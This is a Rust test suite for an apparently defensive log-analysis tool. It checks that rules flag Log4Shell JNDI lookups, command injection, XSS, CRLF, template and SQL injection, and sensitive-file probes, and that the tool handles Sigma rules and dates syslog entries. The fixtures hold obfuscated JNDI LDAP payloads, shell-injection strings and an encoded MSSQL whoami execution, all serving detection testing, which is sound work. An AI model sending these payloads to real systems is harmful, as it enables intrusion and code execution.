            (r"a \\44\\173jndi:ldap://o4.example/a}", "log4j.jndi-lookup"),
            (r"a \044\173jndi:ldap://o11.example/a}", "log4j.jndi-lookup"),
            (r"a \\x24\\x7bjndi:ldap://o6.example/a}", "log4j.jndi-lookup"),
            ("a %5C44%5C173jndi:ldap://o10.example/a}", "log4j.jndi-lookup"),
        ],
        &[
            "${user.home}/conf/jndi.properties loaded",
            "INFO ${lower:Service} started on ${hostName}",
            "price is $$ {discount}",
            "cost: $${amount} escaped",
        ],
    );
    // An assembled string next to a real lookup is reported as the lookup only.
    let e = engine();
    let ids = rule_ids(&e, "${jndi:ldap://x.example/a} ${lower:j}ndi:ldap://y");
    assert!(
        ids.contains(&"log4j.jndi-lookup".to_string()) && !ids.contains(&"log4j.jndi-assembled".to_string())
    );
}

// ------------------------------------------------------------------ Sigma

const SIGMA_WEB: &str = r#"title: Acme Admin Probe
id: 11111111-2222-3333-4444-555555555555
status: test
author: Jane Analyst
logsource:
    category: webserver
detection:
    selection:
        cs-uri-stem|endswith: '/acme-admin.php'
        cs-method: 'POST'
    filter:
        sc-status: 404
    condition: selection and not filter
level: high
tags:
    - attack.initial-access
    - attack.t1190
"#;

const SIGMA_NO_ANCHOR: &str = r#"title: Any Server Error
id: 22222222-2222-3333-4444-555555555555
logsource:
    category: webserver
detection:
    selection:
        sc-status: 500
    condition: selection
level: low
"#;

#[test]
fn sigma_rules_from_a_directory_match_parsed_requests_and_credit_their_author() {
    let dir = tempfile::tempdir().unwrap();
    write_files(
        dir.path(),
        &[
            ("sigma/acme.yml", SIGMA_WEB.as_bytes()),
            ("sigma/any_post.yml", SIGMA_NO_ANCHOR.as_bytes()),
            ("sigma/broken.yml", b"title: [unclosed\n"),
            (
                "access.log",
                b"192.0.2.1 - - [27/Nov/2026:14:00:00 +0000] \"POST /x/acme-admin.php HTTP/1.1\" 200 5 \"-\" \"curl/8\"\n\
192.0.2.1 - - [27/Nov/2026:14:00:01 +0000] \"POST /x/acme-admin.php HTTP/1.1\" 404 5 \"-\" \"curl/8\"\n\
192.0.2.1 - - [27/Nov/2026:14:00:02 +0000] \"GET /x/acme-admin.php HTTP/1.1\" 200 5 \"-\" \"curl/8\"\n",
            ),
        ],
    );
    let sigma = dir.path().join("sigma");
    let log = dir.path().join("access.log");
    let (v, _) = run_json(&["logs", log.to_str().unwrap(), "--sigma", sigma.to_str().unwrap()]);
    let hits: Vec<&serde_json::Value> = v["bundles"][0]["log_hits"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|h| h["rule"] == "sigma.acme")
        .collect();
    // Only the POST that was not answered 404.
    assert_eq!(hits.len(), 1, "{hits:?}");
    assert_eq!(hits[0]["locator"]["line"], 1);
    assert_eq!(hits[0]["severity"], "high");
    assert_eq!(hits[0]["attack"], "T1190");
    let credit = hits[0]["credit"].as_str().unwrap();
    assert!(
        credit.contains("Acme Admin Probe")
            && credit.contains("11111111-2222-3333-4444-555555555555")
            && credit.contains("Jane Analyst")
            && credit.contains("Detection Rule License 1.1"),
        "{credit}"
    );
    // Nothing shows the probe worked: it is an attempt, the rule credited there too.
    let a = v["bundles"][0]["attempts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["rule"] == "log.sigma.acme")
        .unwrap_or_else(|| panic!("{:#}", v["bundles"][0]["attempts"]));
    assert!(a["credit"].as_str().unwrap().contains("Jane Analyst"), "{a:#}");
    // `rules list` names the rules it could not use, with the reason.
    let out = run(&["rules", "list", "--sigma", sigma.to_str().unwrap()]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("sigma.acme"), "{text}");
    assert!(
        text.lines().any(|l| l.contains("any_post.yml")
            && l.contains("Any Server Error")
            && l.contains("no literal")),
        "{text}"
    );
    assert!(
        text.lines().any(|l| l.contains("broken.yml") && l.contains("not a Sigma rule")
            || l.contains("broken.yml") && l.contains("parse error")),
        "{text}"
    );
    assert!(text.contains("process rules"), "{text}");
    // A missing directory is an error, not silence.
    let bad = run(&["logs", log.to_str().unwrap(), "--sigma", dir.path().join("nope").to_str().unwrap()]);
    assert_ne!(bad.status.code(), Some(0));
}

#[test]
fn bundled_sigma_rules_run_by_default_and_can_be_left_out() {
    let dir = tempfile::tempdir().unwrap();
    write_files(
        dir.path(),
        &[(
            "access.log",
            b"203.0.113.5 - - [27/Nov/2026:14:00:00 +0000] \"GET /?x=${jndi:ldap://203.0.113.5/a} HTTP/1.1\" 200 5 \"-\" \"curl/8\"\n",
        )],
    );
    let log = dir.path().join("access.log");
    let rules = |args: &[&str]| -> Vec<String> {
        let mut a = vec!["logs", log.to_str().unwrap()];
        a.extend_from_slice(args);
        let (v, _) = run_json(&a);
        v["bundles"][0]["log_hits"]
            .as_array()
            .unwrap()
            .iter()
            .map(|h| h["rule"].as_str().unwrap().to_string())
            .collect()
    };
    let with = rules(&[]);
    assert!(with.iter().any(|r| r.starts_with("sigma.web_cve_2021_44228_log4j")), "{with:?}");
    let without = rules(&["--no-bundled-sigma"]);
    assert!(!without.iter().any(|r| r.starts_with("sigma.")), "{without:?}");
    assert!(without.contains(&"log4j.jndi-lookup".to_string()));
}

#[test]
fn single_ampersand_and_style_payloads() {
    table(
        "web",
        &[
            (
                &access("/ping.php?ip=127.0.0.1%26%20ping%20-c%2010%20127.0.0.1%20%26", "curl"),
                "web.cmd-injection",
            ),
            ("ip=127.0.0.1 & sleep 5 &", "web.cmd-injection"),
            ("<STYLE>@import'http://xss.rocks/xss.css';</STYLE>", "web.xss"),
            ("<BR SIZE=\"&{alert('XSS')}\">", "web.xss"),
        ],
        &[
            &access("/search?q=salt%20%26%20pepper", "curl"),
            "INFO saved name & id fields for user 7",
            "<style>body { color: red }</style>",
        ],
    );
}

#[test]
fn wrappers_anywhere_and_crlf_after_any_number_of_encodings() {
    table(
        "web",
        &[
            (
                &access("/cgi-bin/x.cgi", "php://filter/read=convert.base64-encode/resource=../config.php"),
                "web.lfi-wrapper",
            ),
            ("X-Forwarded-For: expect://ls", "web.lfi-wrapper"),
            (&access("/index.php?page=%25%30%61Set-Cookie:crlf=injection", "curl"), "web.crlf-injection"),
            (&access("/index.php?page=%5Cr%5CnSet-Cookie:%20x=1", "curl"), "web.crlf-injection"),
        ],
        &[
            "INFO loading file:///opt/app/conf/app.properties",
            "DEBUG response header Set-Cookie: JSESSIONID=abc; Path=/",
            "GET /docs/php-filter-guide.html HTTP/1.1",
        ],
    );
}

#[test]
fn template_probes_and_smarty_calls() {
    table(
        "web.ssti",
        &[
            ("name={{config}}", "web.ssti"),
            ("q=${{<%[%'\"}}%\\.", "web.ssti"),
            ("q={system('id')}", "web.ssti"),
            ("q={{=7*7}}", "web.ssti"),
        ],
        &["template {{ title }} rendered", "{{config_path}} missing", "call {system_status} ok"],
    );
}

#[test]
fn mssql_dynamic_sql_and_comment_truncation() {
    table(
        "web.sqli",
        &[
            (
                &access("/item?id=1';DECLARE%20@x%20varchar(99);SET%20@x=0x77686f616d69;EXEC(@x)--", "curl"),
                "web.sqli.dbms",
            ),
            (&access("/login?user=admin'--&pass=x", "curl"), "web.sqli"),
        ],
        &[&access("/blog/don't-panic--a-guide", "curl"), "DECLARE section of the config parsed"],
    );
}

#[test]
fn sensitive_file_requests() {
    table(
        "web.sensitive-file",
        &[
            (&access("/.env", "curl"), "web.sensitive-file"),
            (&access("/app/.git/config", "curl"), "web.sensitive-file"),
            (&access("/wp-config.php.bak", "curl"), "web.sensitive-file"),
            (&access("/.aws/credentials", "curl"), "web.sensitive-file"),
            (&access("/backup.sql.gz", "curl"), "web.sensitive-file"),
        ],
        &[
            &access("/wp-config.php", "curl"),
            &access("/docs/.environment-setup.html", "curl"),
            "INFO reading /home/app/.config/settings.json",
            &access("/static/config.js", "curl"),
        ],
    );
}

/// A squid access log's records start with a Unix epoch: each hit gets its time from it,
/// end to end from the CLI.
#[test]
fn squid_access_log_hits_take_their_epoch_time() {
    let dir = tempfile::tempdir().unwrap();
    write_files(
        dir.path(),
        &[(
            "access.log",
            b"1639146330.001      2 10.0.0.9 TCP_MISS/200 512 GET http://intranet.example/ - HIER_DIRECT/10.1.1.1 text/html\n\
              1639146338.123    154 10.0.0.9 TCP_MISS/200 512 GET http://intranet.example/?q=${jndi:ldap://198.51.100.7:1389/a} - HIER_DIRECT/10.1.1.1 text/html\n",
        )],
    );
    let (v, _) = run_json(&["logs", dir.path().join("access.log").to_str().unwrap()]);
    let hits = v["bundles"][0]["log_hits"].as_array().unwrap();
    let jndi = hits.iter().find(|h| h["rule"] == "log4j.jndi-lookup").expect("the JNDI hit");
    assert_eq!(jndi["time"], "2021-12-10T14:25:38.123000000Z");
    assert_eq!(jndi["locator"]["line"], 2);
}

/// A rule file the user gave that cannot be loaded is a usage error everywhere (exit 64), a
/// duplicate of a built-in id included; a user Sigma file that cannot be used is named in the
/// report's diagnostics, never skipped in silence.
#[test]
fn user_rule_files_fail_as_usage_and_broken_sigma_is_said() {
    let dir = tempfile::tempdir().unwrap();
    write_files(
        dir.path(),
        &[
            ("app.log", b"10.0.0.1 - - [27/Nov/2026:14:00:00 +0000] \"GET /a?q=zzmagiczz HTTP/1.1\" 200 1 \"-\" \"x\"\n"),
            (
                "dup.rules",
                b"[rule]\nid = log4j.jndi-lookup\ntitle = again\ncategory = execution\nseverity = high\nliteral = zzmagiczz\n",
            ),
            ("sigma/broken.yml", b"title: Broken\nlogsource: [\ndetection: {\n"),
            (
                "sigma/mine.yml",
                b"title: My Rule\nid: 11111111-2222-3333-4444-555555555555\nauthor: Jane Analyst\nlogsource:\n    category: webserver\ndetection:\n    sel:\n        cs-uri-query|contains: 'zzmagiczz'\n    condition: sel\nlevel: high\n",
            ),
        ],
    );
    let log = dir.path().join("app.log");
    let log = log.to_str().unwrap();
    let dup = dir.path().join("dup.rules");
    for cmd in ["logs", "scan"] {
        let out = run(&[cmd, log, "--rules", dup.to_str().unwrap()]);
        assert_eq!(out.status.code(), Some(64), "{cmd}: {}", String::from_utf8_lossy(&out.stderr));
        assert!(String::from_utf8_lossy(&out.stderr).contains("already defined"), "{cmd}");
    }
    let sigma = dir.path().join("sigma");
    for cmd in ["logs", "scan"] {
        let (v, _) = run_json(&[cmd, log, "--sigma", sigma.to_str().unwrap()]);
        let diags = v["bundles"][0]["diagnostics"].as_array().unwrap();
        assert!(
            diags.iter().any(|d| d["level"] == "warning"
                && d["locator"]["artifact"].as_str().unwrap().ends_with("broken.yml")
                && d["message"].as_str().unwrap().contains("not used")),
            "{cmd}: {diags:?}"
        );
        assert!(
            !diags.iter().any(|d| d["locator"]["artifact"].as_str().unwrap().contains("bundled")),
            "{cmd}"
        );
        let text = v.to_string();
        assert!(
            text.contains("by Jane Analyst, Detection Rule License 1.1"),
            "{cmd}: the author is credited"
        );
    }
}

/// An RFC 3164 syslog file (no year) with a Log4Shell line, in a bundle folder; its mtime
/// (the capture time) is set to `mtime` when given.
fn syslog_bundle(dir: &std::path::Path, log: &str, mtime: Option<&str>) -> std::path::PathBuf {
    let p = dir.join("var/log/auth.log");
    write_files(dir, &[("var/log/auth.log", log.as_bytes())]);
    if let Some(m) = mtime {
        let t = chrono_free_secs(m);
        let f = std::fs::File::options().write(true).open(&p).unwrap();
        f.set_modified(std::time::UNIX_EPOCH + std::time::Duration::from_secs(t)).unwrap();
    }
    p
}

/// `YYYY-MM-DD` at midnight UTC, in Unix seconds (days from the civil date).
fn chrono_free_secs(day: &str) -> u64 {
    let p: Vec<i64> = day.split('-').map(|x| x.parse().unwrap()).collect();
    let (y, m, d) = if p[1] <= 2 { (p[0] - 1, p[1] + 9, p[2]) } else { (p[0], p[1] - 3, p[2]) };
    let era = y.div_euclid(400);
    let yoe = y - era * 400;
    let doy = (153 * m + 2) / 5 + d - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    ((era * 146_097 + doe - 719_468) * 86_400) as u64
}

const SYSLOG_JNDI: &str = "Nov 27 14:00:00 web1 java[84010]: GET /?q=${jndi:ldap://203.0.113.9:1389/a} 404\n";

/// The (time, time_basis) of the JNDI hit of the bundle's syslog file.
fn syslog_hit(v: &serde_json::Value) -> (Option<String>, Option<String>) {
    let h = v["bundles"][0]["log_hits"]
        .as_array()
        .unwrap()
        .iter()
        .find(|h| h["locator"]["artifact"].as_str().unwrap().ends_with("auth.log") && h["jndi"].is_object())
        .unwrap_or_else(|| panic!("no JNDI hit in auth.log: {v}"));
    (h["time"].as_str().map(String::from), h["time_basis"].as_str().map(String::from))
}

#[test]
fn a_syslog_file_without_a_year_is_dated_from_its_capture_time_rolled_back() {
    // Captured 2026-03-05: Nov 27 lies after it in 2026, so it is 2025's.
    let dir = tempfile::tempdir().unwrap();
    syslog_bundle(dir.path(), SYSLOG_JNDI, Some("2026-03-05"));
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
    crate::util::validate_against_schema(&v);
    assert_eq!(syslog_hit(&v), (Some("2025-11-27T14:00:00.000000000Z".into()), Some("capture-time".into())));
    let diags = v["bundles"][0]["diagnostics"].to_string();
    assert!(diags.contains("capture time"), "{diags}");
    let out = run(&["scan", "--verbose", dir.path().to_str().unwrap()]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("syslog without a year, year from the log file's capture time"), "{text}");
    // --syslog-year wins (the logs command).
    let (v, _) =
        run_json(&["logs", "--syslog-year", "2019", dir.path().join("var/log/auth.log").to_str().unwrap()]);
    assert_eq!(syslog_hit(&v), (Some("2019-11-27T14:00:00.000000000Z".into()), Some("given".into())));
    // And on scan, which names it among the run's options.
    let (v, _) = run_json(&["scan", "--syslog-year", "2019", dir.path().to_str().unwrap()]);
    assert_eq!(syslog_hit(&v), (Some("2019-11-27T14:00:00.000000000Z".into()), Some("given".into())));
    assert_eq!(v["run"]["options"]["syslog_year"], "2019");
}

#[test]
fn a_syslog_file_is_dated_from_its_own_lines_then_from_the_bundle() {
    // A dated line in the same file: its year (Dec 31 2025 then Jan 1 2026 would roll on).
    let dir = tempfile::tempdir().unwrap();
    let log = format!("[27/Nov/2024:13:00:00 +0000] rotated\n{SYSLOG_JNDI}");
    syslog_bundle(dir.path(), &log, Some("2026-03-05"));
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
    assert_eq!(syslog_hit(&v), (Some("2024-11-27T14:00:00.000000000Z".into()), Some("same-file".into())));
    // No dated line in it, but the bundle's container started 2023-12-01: Nov 27 is 2023's,
    // whatever the file's mtime says.
    let dir = tempfile::tempdir().unwrap();
    syslog_bundle(dir.path(), SYSLOG_JNDI, Some("2026-03-05"));
    let inspect = r#"[{"Id": "4f2a9c1be0d3aa55e0f1c2d3b4a5968778695a4b3c2d1e0f9a8b7c6d5e4f3a2b", "Name": "/web",
        "Created": "2023-11-01T10:00:00Z", "Path": "java", "Args": [],
        "State": {"Running": true, "StartedAt": "2023-12-01T10:00:00Z", "FinishedAt": "0001-01-01T00:00:00Z"},
        "Image": "sha256:aa11bb22cc33dd44ee55ff66aa11bb22cc33dd44ee55ff66aa11bb22cc33dd44",
        "HostConfig": {}, "Mounts": [], "Config": {"Image": "app", "Cmd": ["java"]}}]"#;
    write_files(dir.path(), &[("inspect.json", inspect.as_bytes())]);
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
    assert_eq!(syslog_hit(&v), (Some("2023-11-27T14:00:00.000000000Z".into()), Some("bundle".into())));
}
